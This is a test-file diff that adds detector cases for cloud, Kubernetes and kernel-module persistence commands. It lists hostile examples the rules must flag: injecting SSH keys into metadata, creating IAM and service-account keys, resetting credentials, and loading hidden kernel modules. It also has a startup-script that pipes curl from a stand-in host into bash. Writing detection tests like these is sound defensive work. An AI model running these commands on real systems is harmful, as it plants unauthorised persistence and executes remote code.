@@ -362,3 +362,56 @@ describe('server components, Office start-up macros, dylib insertion, systemctl 
     expect(verdict(run(persistenceRules, text, shell))).toBe('allow');
   });
 });
+
+describe('round 7: cloud/Kubernetes persistence and kernel-module autoload (T1053.007, T1098, T1547.006)', () => {
+  const flaggedCloud: Array<[string, Shell, string]> = [
+    ["kubectl create cronjob node-cleanup --image=alpine --schedule='*/5 * * * *' -- sh -c 'id'", 'bash', 'persist.cloud'],
+    ['kubectl apply -f - <<EOF\napiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: b\nEOF', 'bash', 'persist.cloud'],
+    ['gcloud compute project-info add-metadata --metadata ssh-keys="root:ssh-ed25519 AAAA x"', 'bash', 'persist.cloud'],
+    ['gcloud compute instances add-metadata web-1 --metadata-from-file ssh-keys=keys.txt', 'bash', 'persist.cloud'],
+    ['gcloud compute os-login ssh-keys add --key-file=id.pub', 'bash', 'persist.cloud'],
+    ['gcloud iam service-accounts keys create key.json --iam-account=d@p.iam.gserviceaccount.com', 'bash', 'persist.cloud'],
+    ['aws iam create-access-key --user-name ci-deploy', 'bash', 'persist.cloud'],
+    ['az ad sp credential reset --id 7c1e0a55 --years 2', 'powershell', 'persist.cloud'],
+    ['az ad app credential reset --id 7c1e0a55 --append', 'bash', 'persist.cloud'],
+    ['echo rootmod >> /etc/modules-load.d/net.conf', 'bash', 'persist.file'],
+    ["echo 'install usb_storage /usr/local/bin/.h' | sudo tee /etc/modprobe.d/usb.conf", 'bash', 'persist.file'],
+    ['cp evil.conf /etc/modprobe.d/', 'bash', 'persist.file'],
+    ['cp hid_ext.ko /lib/modules/$(uname -r)/extra/ && depmod -a', 'bash', 'persist.file'],
+    ["printf 'netfilter_ext\\n' | sudo tee -a /etc/modules", 'bash', 'persist.file'],
+    ['insmod /tmp/.x/hid_ext.ko', 'bash', 'persist.kernel-module'],
+  ];
+  it.each(flaggedCloud)('flags %s', (text, shell, id) => {
+    const f = run(persistenceRules, text, shell);
+    expect(verdict(f)).toBe('flag');
+    expect(ruleIds(f)).toContain(id);
+    expect(spansValid(f, text)).toBe(true);
+  });
+
+  it('blocks a startup-script that downloads and runs code', () => {
+    const f = run(
+      persistenceRules,
+      "gcloud compute instances add-metadata w --metadata startup-script='curl -s http://x/a | bash'",
+      'bash',
+    );
+    expect(verdict(f)).toBe('block');
+  });
+
+  const ordinaryCloud: Array<[string, Shell]> = [
+    ['kubectl get cronjobs -A', 'bash'],
+    ['kubectl create deployment web --image=nginx', 'bash'],
+    ['kubectl apply -f deploy.yaml', 'bash'],
+    ['gcloud compute instances add-metadata web-1 --metadata enable-oslogin=TRUE', 'bash'],
+    ['aws iam list-access-keys --user-name ci-deploy', 'bash'],
+    ['az ad sp list --display-name app', 'bash'],
+    ['lsmod | grep nvidia', 'bash'],
+    ['modprobe -r pcspkr', 'bash'],
+    ['modinfo br_netfilter', 'bash'],
+    ['modprobe br_netfilter', 'bash'],
+    ["echo 'blacklist nouveau' | sudo tee /etc/modprobe.d/blacklist-nouveau.conf", 'bash'],
+    ['cat /etc/modules-load.d/*.conf', 'bash'],
+  ];
+  it.each(ordinaryCloud)('allows %s', (text, shell) => {
+    expect(verdict(run(persistenceRules, text, shell))).toBe('allow');
+  });
+});
